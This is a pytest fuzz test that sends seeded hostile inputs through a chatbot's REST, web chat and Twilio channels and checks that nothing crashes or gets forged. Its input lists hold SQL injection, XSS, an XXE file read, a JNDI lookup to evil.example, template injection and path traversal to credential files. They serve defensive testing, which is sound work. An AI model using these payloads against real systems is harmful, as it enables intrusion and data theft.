"""A fuzz test: over a thousand generated hostile inputs through every channel of the real stack.

The inputs come from a seeded ``random.Random`` (the same inputs on every run): empty and
whitespace-only, huge (100 KB, 1 MB, one past ``MAX_MESSAGE_CHARS``), control characters, lone
surrogates (where the transport can carry them: JSON), bidi overrides, zero-width characters,
emoji sequences, stacks of combining marks, mixed scripts, SQL, script and template injection,
format strings, path traversal, long words, numbers (which a text maps to options), random bytes
read as Latin-1, invalid UTF-8 sent as raw bytes, and typed payloads ("/intent{...}") that try to
set the slots outside tools read, with every slot of domain.yml, well-formed and not.

Through the REST channel (the most: it is the cheapest; malformed, mistyped and huge bodies too),
the web chat's socket.io channel (a real python-socketio client: hostile texts, hostile shapes of
``user_uttered`` and ``session_request``, forged session ids and tokens) and the Twilio webhook
(signed: hostile bodies, senders that are not numbers, NumMedia that lies, media on hosts that are
not Twilio's; unsigned or forged: 403).

Checked: no 5xx; every reply well-formed (REST: a JSON list of messages, each with a text or
well-formed buttons; web chat: acks and ``bot_uttered``; Twilio: TwiML, and every text sent a
single segment with something in it); no slot set to a forged value, and the slots outside tools
read (case reference, risk, consent, report status...) untouched by a forged payload; no case made
but by danger (an unfinished case flagged as danger now, as designed), none with a forged value; no
media fetched from a host that is not Twilio's; every text Twilio brought handled; every process
alive and answering, and a normal conversation on each channel afterwards; no Traceback in any
server's log, nor any of the fuzz's texts.

Not sent: integers of more than 100 digits in a socket.io packet (engineio refuses such a packet
itself, and logs a Traceback: a guard of the library's, not ours).

Runs on a SQLite stack of its own, so that its logs hold only what it did and its flood of messages
from one address trips no other test's rate limit (limits off here: every input reaches the dialogue).
"""
from __future__ import annotations

import json
import random
import re
import threading
import time
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qsl, quote, quote_from_bytes

import pytest
import requests
import socketio
import yaml
from sqlalchemy import select
from twilio.request_validator import RequestValidator

from bot.channels import phone as phone_module
from bot.channels import sms
from bot.channels.tokens import phone_sender_id, secret_key
from bot.db import session_factory
from bot.languages import LANGUAGES
from bot.models import Case, InboundMessage
from bot.settings import ROOT, Settings
from tests.conftest import TEST_SMS_NUMBER, TEST_WHATSAPP_NUMBER, _stack
from tests.fake_twilio import ACCOUNT_SID, AUTH_TOKEN

pytestmark = pytest.mark.integration

SEED = 20261121
WORKERS = 6  # conversations at once: a busy two-core machine keeps up
DOMAIN = yaml.safe_load((ROOT / "domain.yml").read_text(encoding="utf-8"))
SLOTS = list(DOMAIN["slots"])
INTENTS = list(DOMAIN["intents"])
REFERENCE = re.compile(r"^[0-9A-Z]{3}-[0-9A-Z]{3}-[0-9A-Z]{3}$")
FORGED = "FORGED"  # in every forged value (and in no text the bot writes)
# Slots outside tools read, and the ones the report's own steps set: a forged payload must leave them.
UNTOUCHABLE = ("consent_police", "consent_agencies", "consent_log", "booking_reference", "check_reference",
               "check_secret", "call_secret", "code_word", "risk_level")
EMPTY_TWIML = "<Response></Response>"
KNIFE = "someone has a knife outside my door"


# --- The inputs ---------------------------------------------------------------------------------

SQL = ["'; DROP TABLE cases; --", '" OR 1=1 --', "' OR '1'='1", "1; DELETE FROM outbox_messages WHERE 1=1; --",
       "admin'--", "') UNION SELECT reference, description FROM cases --", "'; UPDATE cases SET status='closed'; --",
       "1' AND SLEEP(5)#", "'; SELECT pg_sleep(10); --", "\\'; DROP TABLE events; --", "'||(SELECT sqlite_version())||'",
       "'; ATTACH DATABASE '/tmp/x.db' AS x; --", "%' AND 1=0 UNION ALL SELECT NULL,NULL --"]
MARKUP = ["<script>alert(1)</script>", '<img src=x onerror="alert(document.cookie)">', "javascript:alert(1)",
          "<svg/onload=alert(1)>", '"><iframe src=//evil.example>', "<a href=\"javascript:fetch('//evil.example')\">x</a>",
          "<!--", "]]>", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
          "<style>*{display:none}</style>", "<Response><Message to=\"+15005550006\">forged</Message></Response>",
          "[click me](javascript:alert(1))", "<b onmouseover=alert(1)>hover</b>", "&lt;script&gt;&#x3C;"]
TEMPLATES = ["{{7*7}}", "${7*7}", "{reference}", "{case_reference}", "{0.__class__}", "#{7*7}", "<%= 7*7 %>",
             "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "%(reference)s", "{language}",
             "${jndi:ldap://evil.example/a}", "{{ slot('case_reference') }}", "{name!r:>99999}"]
FORMATS = ["%s%s%s%s%n", "%x%x%x%x", "%n%n%n", "%.1000000f", "{}", "{0}{1}{2}", "%d %i %p", "%(text)s", "%*.*s"]
PATHS = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/shadow",
         "/proc/self/environ", "....//....//etc/hosts", "C:\\boot.ini", "var/session.secret", "~/.ssh/id_rsa",
         "/dev/zero", "\\\\evil.example\\share"]
EMOJI = ["🙂", "😡🔪🏠", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇬🇧🇵🇱🇧🇩", "👍🏿👍🏽👍🏻", "🧕🏾", "❤️‍🔥", "🫠" * 60,
         "\U0001F3F4\U000E0067\U000E0062\U000E0077\U000E006C\U000E0073\U000E007F", "👩🏽‍🦯‍➡️", "🔥" * 500]
SCRIPTS = ["مرحبا، جاري يصرخ علي كل يوم", "আমার প্রতিবেশী আমাকে গালি দেয়", "ਮੇਰਾ ਗੁਆਂਢੀ ਮੈਨੂੰ ਗਾਲਾਂ ਕੱਢਦਾ ਹੈ",
           "Sąsiad wyzywa mnie codziennie, źle się czuję", "Mae fy nghymydog yn gweiddi arna i bob dydd",
           "میرا پڑوسی مجھے گالیاں دیتا ہے", "O vizinho grita comigo", "Vecinul meu mă insultă zilnic",
           "Mi vecino me insulta", "Сосед оскорбляет меня", "我的邻居骂我", "השכן צועק עליי", "隣人が怒鳴る"]
BIDI = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u200e", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u180e", "\u00ad"]
NUMBERS = ["0", "1", "2", "5", "6", "7", "10", "-1", "99", "999", "55", "1.5", "1e309", "NaN", "Infinity", "0x1",
           "١", "٣", "৩", "੨", "۲", "１", "Ⅳ", "½", " 3 ", "3.", "#1", "1 2", "00000000000000000000001", "9" * 400,
           "-0", "+1", "1,000", "²"]
CONTROLS = ["\x00", "".join(map(chr, range(1, 32))), "\x7f", "\x1b[2J\x1b[1;1H", "\x1b]0;pwned\x07", "\x08" * 30,
            "hello\r\n2026-01-01 00:00:00 INFO     rasa.core  - forged log line", "\x85\u2028\u2029", "\x0b\x0c",
            "\x00" * 100, "a\x00b\x00c", "\r" * 50, "\t\t\t"]
SURROGATES = ["\ud800", "\udfff", "a\ud83dz", "\udc00\udc00 text", "\ud800\ud800\ud800 my neighbour shouts at me every night"]
EMPTIES = ["", " ", "   ", "\t\n", "\n\n\n", "\u00a0", "\u3000", "\u200b", " \u200b\u200d\ufeff ", "\r\n"]
WORDS = ("neighbour shouts racist abuse door car bins notes stairs window flat block estate every night they "
         "me my the at and again today yesterday scared want help report").split()


class Inputs:
    """Hostile texts by category, all from one seeded random number generator."""

    def __init__(self, seed: int, max_chars: int) -> None:
        self.rng = random.Random(seed)
        self.max_chars = max_chars

    def words(self, n: int) -> str:
        return " ".join(self.rng.choice(WORDS) for _ in range(n))

    def zalgo(self) -> str:
        base = self.words(self.rng.randint(1, 4))
        return "".join(c + "".join(chr(self.rng.randint(0x300, 0x36F)) for _ in range(self.rng.randint(5, 120)))
                       for c in base)

    def mixed(self) -> str:
        return " ".join(self.rng.sample(SCRIPTS, self.rng.randint(2, 6)))

    def binary(self) -> str:
        return bytes(self.rng.randrange(256) for _ in range(self.rng.randint(1, 400))).decode("latin-1")

    def huge(self, which: int) -> str:
        return [
            "x" * (self.max_chars + 1),
            self.words(self.max_chars // 4)[: self.max_chars],  # exactly at the limit (or just under)
            self.words(20_000)[:100_000],
            ("abc " * 250_000)[:1_000_000],
            self.mixed() * 20,
        ][which % 5]

    def long_word(self) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(self.rng.choice((300, 1999, 2001, 5000))))

    def combined(self) -> str:
        """A few pieces of different kinds in one message."""
        pools = [SQL, MARKUP, TEMPLATES, FORMATS, PATHS, EMOJI, SCRIPTS, BIDI, ZERO_WIDTH, NUMBERS, CONTROLS]
        parts = [self.rng.choice(self.rng.choice(pools)) for _ in range(self.rng.randint(2, 4))]
        parts.insert(self.rng.randint(0, len(parts)), self.words(self.rng.randint(1, 8)))
        return self.rng.choice(["", " ", "\n"]).join(parts)

    def text(self, category: str) -> str:
        r = self.rng
        pick = {
            "empty": lambda: r.choice(EMPTIES),
            "control": lambda: r.choice(CONTROLS) + (" " + self.words(3) if r.random() < 0.5 else ""),
            "surrogate": lambda: r.choice(SURROGATES),
            "bidi": lambda: r.choice(BIDI) + self.words(4) + r.choice(BIDI) + "txt.exe",
            "zero_width": lambda: r.choice(ZERO_WIDTH).join(self.words(4)),
            "emoji": lambda: r.choice(EMOJI) + (" " + self.words(3) if r.random() < 0.5 else ""),
            "zalgo": self.zalgo,
            "mixed_scripts": self.mixed,
            "sql": lambda: r.choice(SQL),
            "markup": lambda: r.choice(MARKUP),
            "template": lambda: r.choice(TEMPLATES),
            "format": lambda: r.choice(FORMATS),
            "path": lambda: r.choice(PATHS),
            "long_word": self.long_word,
            "number": lambda: r.choice(NUMBERS),
            "binary": self.binary,
            "combined": self.combined,
        }[category]
        return pick()


TEXT_CATEGORIES = ["empty", "control", "surrogate", "bidi", "zero_width", "emoji", "zalgo", "mixed_scripts", "sql",
                   "markup", "template", "format", "path", "long_word", "number", "binary", "combined"]


def forged_payloads(rng: random.Random, count: int) -> list[tuple[str, str, set]]:
    """Typed payloads that try to set slots: (text, its intent or "" when malformed, the forged values)."""
    out: list[tuple[str, str, set]] = []
    n = 0

    def forged(slot: str) -> str:
        nonlocal n
        n += 1
        return f"{FORGED}-{slot}-{n}"

    def every_slot() -> dict:
        return {slot: forged(slot) for slot in SLOTS}

    fixed = [
        ('/inform{"risk_level":"standard"}', "inform", {"standard"}),
        ('/submit_report{"case_reference":"FORGED-X"}', "submit_report", {"FORGED-X"}),
        ("/restart", "restart", set()),
        ("/session_start", "session_start", set()),
        ('/danger_now{"immediate_risk": true, "case_reference": "FORGED-NOW"}', "danger_now", {"FORGED-NOW"}),
        ('/danger{"case_reference":"FORGED-D","risk_level":"FORGED-R"}', "danger", {"FORGED-D", "FORGED-R"}),
        ('/affirm{"report_status":"submitted","consent_police":true}', "affirm", {"submitted"}),
        ('/choose{"value":"victim","case_reference":"FORGED-C","immediate_risk":true}', "choose", {"FORGED-C"}),
        ('/choose_language{"language":"FORGED-xx"}', "choose_language", {"FORGED-xx"}),
        ('/greet{"language":"../../etc/passwd"}', "greet", {"../../etc/passwd"}),
        ('/inform@1.0{"case_reference":"FORGED-CONF"}', "inform", {"FORGED-CONF"}),
        ('/inform{"value":{"case_reference":"FORGED-NEST"}}', "inform", {"FORGED-NEST"}),
        ('/inform{"value":["FORGED-L1","FORGED-L2"]}', "inform", {"FORGED-L1", "FORGED-L2"}),
        ('/action_submit_report', "action_submit_report", set()),
        ('/EXTERNAL_dry_plant{"case_reference":"FORGED-EXT"}', "EXTERNAL_dry_plant", {"FORGED-EXT"}),
        ('/action_restart', "action_restart", set()),
        ("/", "", set()), ("//", "", set()), ("/intent{", "", set()), ('/inform{"a":', "", set()),
        ('/inform{"case_reference": "FORGED-U"', "", set()), ("/{}", "", set()), ('/{"case_reference":"FORGED-E"}', "", set()),
        ("/ inform", "", set()), ("/inform}", "", set()), ("/inform{{}}", "", set()), ("/inform{'a': 1}", "", set()),
        ('/inform{"risk_level":"FORGED-T"}trailing', "", set()), ('/choose{"value":"victim"}{"case_reference":"FORGED-2"}', "", set()),
        ("/INFORM", "", set()), ("/\u202einform", "", set()), ("/inform\x00{}", "", set()), ("/" + "a" * 3000, "", set()),
        ('/inform{"' + "k" * 1000 + '": 1}', "", set()), ("/inform" + "{" * 200 + "}" * 200, "", set()),
    ]
    out.extend(fixed)
    intents = INTENTS + ["submit_report", "danger_now", "nlu_fallback", "out_of_scope", "restart", "back"]
    sensitive = ["case_reference", "risk_level", "immediate_risk", "report_status", "report_id", "consent_police",
                 "consent_agencies", "consent_log", "booking_reference", "language", "value", "check_reference"]
    while len(out) < count:
        intent = rng.choice(intents)
        kind = rng.randrange(5)
        if kind == 0:  # every slot of domain.yml
            values = every_slot()
        elif kind == 1:  # a few sensitive ones, booleans too
            values = {s: forged(s) for s in rng.sample(sensitive, rng.randint(1, 4))}
            values.update({s: True for s in rng.sample(["immediate_risk", "consent_police", "consent_agencies"], 1)})
        elif kind == 2:  # the entity the forms read, with a forged value
            values = {"value": forged("value")}
        elif kind == 3:  # nested and listed values
            values = {"value": [forged("value"), {"case_reference": forged("case_reference")}],
                      "case_reference": [forged("case_reference")]}
        else:  # numbers and odd types
            values = {s: rng.choice([31337, -1, 1e308, None, [], {}, forged(s)]) for s in rng.sample(SLOTS, 5)}
        confidence = rng.choice(["", "", "@1.0", "@0.01", "@99"])
        text = f"/{intent}{confidence}{json.dumps(values)}"
        strings = set()

        def collect(v):
            if isinstance(v, str):
                strings.add(v)
            elif isinstance(v, list):
                for x in v:
                    collect(x)
            elif isinstance(v, dict):
                for x in v.values():
                    collect(x)

        collect(values)
        out.append((text, intent, {s for s in strings if s.startswith(FORGED)}))
    return out[:count]


# --- Checks -------------------------------------------------------------------------------------

class Findings:
    """Every problem found (a fuzz test says them all, not only the first), and what was sent."""

    def __init__(self) -> None:
        self.problems: list[str] = []
        self.sent: Counter = Counter()  # (channel, category) -> inputs
        self.texts: list[str] = []  # what was sent, to look for in the logs
        self.addresses: set[str] = set()  # where texts go back to (Twilio's "To")
        self.lock = threading.Lock()

    def problem(self, where: str, what: str) -> None:
        with self.lock:
            self.problems.append(f"{where}: {what}")

    def count(self, channel: str, category: str, text=None) -> None:
        """One input sent (the conversations' own first steps, "setup" and "normal", are not counted)."""
        with self.lock:
            if category not in ("setup", "normal"):
                self.sent[(channel, category)] += 1
            if isinstance(text, str):
                self.texts.append(text)

    def check(self, ok: bool, where: str, what: str) -> bool:
        if not ok:
            self.problem(where, what)
        return ok


def short(value, n: int = 80) -> str:
    text = repr(value)
    return text if len(text) <= n else text[:n] + f"...({len(text)} chars)"


def buttons_ok(buttons) -> bool:
    return isinstance(buttons, list) and all(
        isinstance(b, dict) and isinstance(b.get("title"), str) and isinstance(b.get("payload"), str) for b in buttons)


def rest_reply_problem(messages) -> str | None:
    """What is wrong with a REST reply, or None: a list of messages, each with a text or buttons."""
    if not isinstance(messages, list):
        return f"not a list: {short(messages)}"
    for m in messages:
        if not isinstance(m, dict):
            return f"a message that is not an object: {short(m)}"
        if "text" in m and not isinstance(m["text"], str):
            return f"a text that is not a string: {short(m)}"
        if "buttons" in m and not buttons_ok(m["buttons"]):
            return f"malformed buttons: {short(m)}"
        if not (m.get("text") or "").strip() and not m.get("buttons") and not m.get("image") and not m.get("custom"):
            return f"an empty message: {short(m)}"
    return None


def bot_uttered_problem(m) -> str | None:
    if not isinstance(m, dict):
        return f"not an object: {short(m)}"
    if not isinstance(m.get("seq"), (int, float)) or isinstance(m.get("seq"), bool):
        return f"no seq: {short(m)}"
    if not isinstance(m.get("text"), str) or not buttons_ok(m.get("quick_replies")):
        return f"malformed: {short(m)}"
    if not m["text"].strip() and not m["quick_replies"]:
        return f"empty: {short(m)}"
    if m.get("lang") not in LANGUAGES or m.get("dir") not in ("ltr", "rtl"):
        return f"no language or direction: {short(m)}"
    return None


def holds(value, forged: set) -> bool:
    """The slot's value is (or lists, or maps to) one of the forged values."""
    if isinstance(value, str):
        return value in forged or value.startswith(FORGED + "-")
    if isinstance(value, list):
        return any(holds(v, forged) for v in value)
    if isinstance(value, dict):
        return any(holds(v, forged) for v in value.values())
    return False


def forge_problems(before: dict, after: dict, intent: str, forged: set, text: str = "") -> list[str]:
    """What a typed payload (``intent``: "" when Rasa cannot read it as one) changed that it must not have."""
    out = []
    words = text.strip()
    for slot, value in after.items():
        if holds(value, forged):
            out.append(f"slot {slot} = {short(value)}")
        elif intent and words and value != before.get(slot) and isinstance(value, str) and words[:100] in value:
            out.append(f"the payload taken as words: slot {slot} = {short(value)}")
    if after.get("language") not in LANGUAGES:
        out.append(f"language = {short(after.get('language'))}")
    danger = intent == "danger"
    if after.get("immediate_risk") and not before.get("immediate_risk") and not danger:
        out.append("immediate_risk set")
    reference = after.get("case_reference")
    if reference != before.get("case_reference") and reference is not None and not (danger and REFERENCE.match(reference)):
        out.append(f"case_reference = {short(reference)}")
    for slot in ("report_status", "booking_status", "safety_status"):  # a form started, never finished by a payload
        if after.get(slot) not in (None, "in_progress", before.get(slot)):
            out.append(f"{slot} = {short(after.get(slot))}")
    report_id = after.get("report_id")
    if report_id not in (None, before.get("report_id")) and not re.fullmatch(r"[0-9a-f]{32}", str(report_id)):
        out.append(f"report_id = {short(report_id)}")
    for slot in UNTOUCHABLE:
        value = after.get(slot)
        if slot not in after or value == before.get(slot) or value is None:
            continue
        if danger and slot == "risk_level":
            continue
        if not intent and value == words:  # a text Rasa does not read as a payload: the answer to the question asked
            continue
        out.append(f"{slot}: {short(before.get(slot))} -> {short(value)}")
    return out


# --- The stack and its clients ------------------------------------------------------------------

@pytest.fixture(scope="module")
def fuzz_stack(tmp_path_factory, fake_twilio):
    tmp = tmp_path_factory.mktemp("fuzz-stack")
    limits = {name: 0 for name in ("rate_per_sender", "rate_per_address") if name in Settings.__dataclass_fields__}
    running = _stack(tmp, f"sqlite:///{tmp / 'cases.db'}", f"sqlite:///{tmp / 'tracker.db'}", "", fake_twilio, **limits)
    yield running
    running.stop()


class Canary:
    """A server no one should ever ask for anything: where the forged media URLs point."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _hit(self):
                canary.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "4")
                self.end_headers()
                self.wfile.write(b"leak")

            do_GET = do_POST = do_DELETE = do_HEAD = _hit

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def tracker_slots(stack, sender: str) -> dict:
    r = requests.get(f"{stack.rasa_url}/conversations/{quote(sender, safe='')}/tracker",
                     params={"token": stack.settings.rasa_auth_token}, timeout=60)
    r.raise_for_status()
    return r.json()["slots"]


def tracker_user_texts(stack, sender: str) -> list[str]:
    r = requests.get(f"{stack.rasa_url}/conversations/{quote(sender, safe='')}/tracker",
                     params={"token": stack.settings.rasa_auth_token}, timeout=60)
    r.raise_for_status()
    return [e.get("text") for e in r.json()["events"] if e["event"] == "user"]


class Rest:
    def __init__(self, stack, findings: Findings, sender: str | None = None) -> None:
        self.stack, self.findings = stack, findings
        self.sender = sender or "fuzz-" + uuid.uuid4().hex
        self.url = f"{stack.rasa_url}/webhooks/rest/webhook"

    def post(self, category: str, body=None, raw: bytes | None = None, headers=None, params=None,
             expect_reply: bool = True, allow_4xx: bool = False) -> list | None:
        """One request; its answer checked. The reply (a list of messages), or None."""
        where = f"rest/{category} {short(body if raw is None else raw, 60)}"
        try:
            if raw is not None:
                r = requests.post(self.url, data=raw, headers=headers or {"Content-Type": "application/json"},
                                  params=params, timeout=180)
            else:
                r = requests.post(self.url, json=body, headers=headers, params=params, timeout=180)
        except requests.RequestException as exc:
            self.findings.problem(where, f"no answer ({type(exc).__name__})")
            return None
        if not self.findings.check(r.status_code < 500, where, f"HTTP {r.status_code}: {r.text[:200]}"):
            return None
        if r.status_code != 200:
            self.findings.check(allow_4xx and 400 <= r.status_code < 500, where, f"HTTP {r.status_code}: {r.text[:200]}")
            return None
        if params and params.get("stream"):
            try:  # a message a line (a refusal from the channel's guard comes as one list)
                lines = [json.loads(line) for line in r.text.splitlines() if line.strip()]
                messages = [m for line in lines for m in (line if isinstance(line, list) else [line])]
            except ValueError:
                self.findings.problem(where, f"a streamed line is not JSON: {r.text[:200]}")
                return None
        else:
            try:
                messages = r.json()
            except ValueError:
                self.findings.problem(where, f"not JSON: {r.text[:200]}")
                return None
        problem = rest_reply_problem(messages)
        if problem:
            self.findings.problem(where, problem)
            return None
        if expect_reply:
            self.findings.check(bool(messages), where, "no reply at all")
        return messages

    def say(self, category: str, text: str, expect_reply: bool = True, **kwargs) -> list | None:
        self.findings.count("rest", category, text)
        return self.post(category, {"sender": self.sender, "message": text}, expect_reply=expect_reply, **kwargs)


class Web:
    """The widget, as a python-socketio client on long-polling."""

    def __init__(self, stack, findings: Findings) -> None:
        self.stack, self.findings = stack, findings
        self.confirms: list[dict] = []
        self.messages: list[dict] = []
        self.lock = threading.Lock()
        self.sio = socketio.Client(reconnection=False)
        self.sio.on("session_confirm", self._confirm)
        self.sio.on("bot_uttered", self._bot)
        self.sio.connect(stack.rasa_url, socketio_path="/socket.io", transports=["polling"], wait_timeout=60)

    def _confirm(self, data):
        with self.lock:
            self.confirms.append(data)

    def _bot(self, data):
        problem = bot_uttered_problem(data)
        if problem:
            self.findings.problem("webchat/bot_uttered", problem)
        with self.lock:
            self.messages.append(data)

    def session(self, category: str, request=..., timeout: float = 30) -> dict | None:
        """A session_request (``...``: none sent with it); the session_confirm, checked."""
        self.findings.count("webchat", category, request.get("token") if isinstance(request, dict) else None)
        before = len(self.confirms)
        if request is ...:
            self.sio.emit("session_request")
        else:
            self.sio.emit("session_request", request)
        deadline = time.monotonic() + timeout
        while len(self.confirms) == before:
            if time.monotonic() > deadline or not self.sio.connected:
                self.findings.problem(f"webchat/{category} {short(request, 60)}", "no session_confirm")
                return None
            time.sleep(0.05)
        confirm = self.confirms[-1]
        ok = (isinstance(confirm, dict) and isinstance(confirm.get("token"), str) and confirm["token"].count(".") == 3
              and isinstance(confirm.get("resumed"), bool) and confirm.get("lang") in LANGUAGES
              and confirm.get("dir") in ("ltr", "rtl") and isinstance(confirm.get("ui"), dict))
        self.findings.check(ok, f"webchat/{category} {short(request, 60)}", f"malformed session_confirm {short(confirm)}")
        return confirm if ok else None

    def send(self, category: str, data=..., timeout: float = 60) -> dict | None:
        """A user_uttered (``...``: with no data); its ack, checked."""
        self.findings.count("webchat", category, data.get("message") if isinstance(data, dict) else data)
        where = f"webchat/{category} {short(data, 60)}"
        try:
            ack = self.sio.call("user_uttered", None if data is ... else data, timeout=timeout)
        except Exception as exc:  # a timeout: the handler raised, or never answered
            self.findings.problem(where, f"no ack ({type(exc).__name__})")
            return None
        ok = isinstance(ack, dict) and isinstance(ack.get("ok"), bool) and (
            ack["ok"] or ack.get("reason") in ("empty", "too_long", "no_session", "rate_limited"))
        self.findings.check(ok, where, f"malformed ack {short(ack)}")
        return ack if ok else None

    def wait_text(self, part: str, timeout: float = 60) -> bool:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                if any(part in m.get("text", "") for m in self.messages if isinstance(m, dict)):
                    return True
            time.sleep(0.05)
        return False

    def close(self) -> None:
        try:
            self.sio.disconnect()
        except Exception:
            pass


def sender_of(token: str) -> str:
    return token.split(".")[1]


class Phone:
    """Someone texting: signed webhooks in (form fields given whole, or raw bytes), handled in order."""

    def __init__(self, stack, twilio, findings: Findings, number: str | None = None, channel: str = "sms") -> None:
        self.stack, self.twilio, self.findings = stack, twilio, findings
        self.number = number or "+4477008" + str(uuid.uuid4().int)[:5]
        self.prefix = "whatsapp:" if channel == "whatsapp" else ""
        self.channel = channel
        self.service = TEST_WHATSAPP_NUMBER if channel == "whatsapp" else TEST_SMS_NUMBER
        self.url = stack.settings.twilio_webhook_url
        self.factory = session_factory(stack.settings.database_url)
        self.sids: list[str] = []

    def form(self, body: str = "", **fields) -> dict:
        form = {"MessageSid": "SM" + uuid.uuid4().hex, "AccountSid": ACCOUNT_SID, "From": self.prefix + self.number,
                "To": self.prefix + self.service, "Body": body, "NumMedia": "0", "NumSegments": "1"}
        form.update(fields)
        return {k: v for k, v in form.items() if v is not None}

    def post(self, category: str, form: dict | None = None, raw: bytes | None = None, signature: str | None = None,
             sign_url: str | None = None, expect: int = 200, wait: bool = True) -> bool:
        """One webhook; True when it was taken (and, with ``wait``, handled)."""
        if form is None:  # raw bytes: signed over what the server will read from them
            form = dict(parse_qsl(raw.decode("utf-8", "replace"), keep_blank_values=True))
        self.findings.count("twilio", category, form.get("Body"))
        inbound = phone_module.parse(form)
        if inbound is not None:  # where its reply goes
            with self.findings.lock:
                self.findings.addresses.add(("whatsapp:" if inbound.channel == "whatsapp" else "") + inbound.number)
        if signature is None:
            signature = RequestValidator(AUTH_TOKEN).compute_signature(sign_url or self.url, form)
        headers = {"X-Twilio-Signature": signature} if signature != "<none>" else {}
        where = f"twilio/{category} {short(form.get('Body') if raw is None else raw, 50)} from {short(form.get('From'), 30)}"
        try:
            if raw is not None:
                headers["Content-Type"] = "application/x-www-form-urlencoded"
                r = requests.post(self.url, data=raw, headers=headers, timeout=180)
            else:
                r = requests.post(self.url, data=form, headers=headers, timeout=180)
        except requests.RequestException as exc:
            self.findings.problem(where, f"no answer ({type(exc).__name__})")
            return False
        if not self.findings.check(r.status_code == expect, where, f"HTTP {r.status_code} (not {expect}): {r.text[:200]}"):
            return False
        if expect != 200:
            return False
        if not self.findings.check(EMPTY_TWIML in r.text and r.headers.get("Content-Type", "").startswith("text/xml"),
                                   where, f"not TwiML: {r.text[:200]}"):
            return False
        sid = (form.get("MessageSid") or form.get("SmsMessageSid") or "").strip()[:64]
        if sid:
            self.sids.append(sid)
            if wait:
                self.wait_handled(sid, where)
        return True

    def wait_handled(self, sid: str, where: str, timeout: float = 180) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.factory() as s:
                status = s.execute(select(InboundMessage.status).where(InboundMessage.message_sid == sid)).scalar()
            if status in ("done", None):  # None: not a message (no sender or number), nothing stored
                return
            time.sleep(0.1)
        self.findings.problem(where, "never handled")

    def say(self, category: str, body: str, **fields) -> bool:
        return self.post(category, self.form(body, **fields))

    def received(self) -> list[dict]:
        return self.twilio.messages_to(self.prefix + self.number)

    def conversation_id(self) -> str:
        return phone_sender_id(secret_key(self.stack.settings), self.channel, self.number[:40])


def fits_one_segment(body: str) -> bool:
    cost = sms.gsm_cost(body)
    return cost <= 160 if cost is not None else len(body.encode("utf-16-le")) // 2 <= 70


# --- The conversations --------------------------------------------------------------------------

STAGES = [[], ["hello"], ["hello", '/choose{"value":"victim"}'],
          ["hello", '/choose{"value":"victim"}', "my neighbour shouts racist abuse at me on the stairs"]]


def rest_hostile_conversation(stack, findings, inputs: list[tuple[str, str]], stage: list[str]) -> None:
    chat = Rest(stack, findings)
    for text in stage:
        chat.say("setup", text)
    for category, text in inputs:
        chat.say(category, text)
    slots = tracker_slots(stack, chat.sender)
    problems = forge_problems({}, slots, "", set())
    findings.check(not problems or slots.get("immediate_risk"), f"rest/{chat.sender}", f"slots after hostile texts: {problems}")


def rest_forged_conversation(stack, findings, payloads, stage: list[str], stream: bool = False) -> None:
    chat = Rest(stack, findings)
    for text in stage:
        chat.say("setup", text)
    for text, intent, forged in payloads:
        before = tracker_slots(stack, chat.sender)
        chat.say("forged_payload", text, expect_reply=False, params={"stream": "true"} if stream else None)
        after = tracker_slots(stack, chat.sender)
        for problem in forge_problems(before, after, intent, forged, text):
            findings.problem(f"rest/forged {short(text, 70)} (stage {len(stage)})", problem)


def rest_envelopes(stack, findings, rng: random.Random, max_chars: int) -> None:
    """Bodies that are not what the channel takes: never 5xx; 200 with a well-formed reply, or 4xx."""
    sender = "fuzz-env-" + uuid.uuid4().hex
    chat = Rest(stack, findings, sender)
    raw_bodies = [b"", b"{", b"}", b"[", b"null", b"true", b"123", b'"hello"', b"[1,2,3]", b"[]", b"{}", b"\xff\xfe\xfd",
                  b'{"sender": "' + sender.encode() + b'", "message": "\xff\xfe bad utf-8"}',
                  b'{"sender": "' + sender.encode() + b'", "message": "\xc3\x28"}',
                  b'{"sender": "' + sender.encode() + b'", "message": "ok"' + b" " * 10 + b",}",
                  b"\x00" * 100, bytes(rng.randrange(256) for _ in range(2000)), b"sender=x&message=hello",
                  b'{"sender": "' + sender.encode() + b'", "message": "dup", "message": "licate"}',
                  b'{"sender": "' + sender.encode() + b'", "message": NaN}', b'{"sender": "a", "message": "' + b"[" * 100_000 + b'"}',
                  b"[" * 50_000 + b"]" * 50_000, b'{"a":' * 5000 + b"1" + b"}" * 5000,
                  b'{"sender": "' + sender.encode() + b'", "message": 1' + b"0" * 5000 + b"}",
                  b'{"sender": "' + sender.encode() + b'", "message": "\\ud800\\udc00\\ud800"}']
    for raw in raw_bodies:
        findings.count("rest", "malformed_body", None)
        chat.post("malformed_body", raw=raw, expect_reply=False, allow_4xx=True)
    for headers in ({"Content-Type": "text/plain"}, {"Content-Type": "application/x-www-form-urlencoded"},
                    {"Content-Type": "multipart/form-data; boundary=x"}, {"Content-Type": "application/json; charset=utf-16"}):
        findings.count("rest", "content_type", None)
        chat.post("content_type", raw=json.dumps({"sender": sender, "message": "hello"}).encode(), headers=headers,
                  expect_reply=False, allow_4xx=True)
    wrong_types = [5, 1.5, True, None, [], ["hello"], {"text": "hello"}, {"$ne": None}, -1]
    for value in wrong_types:
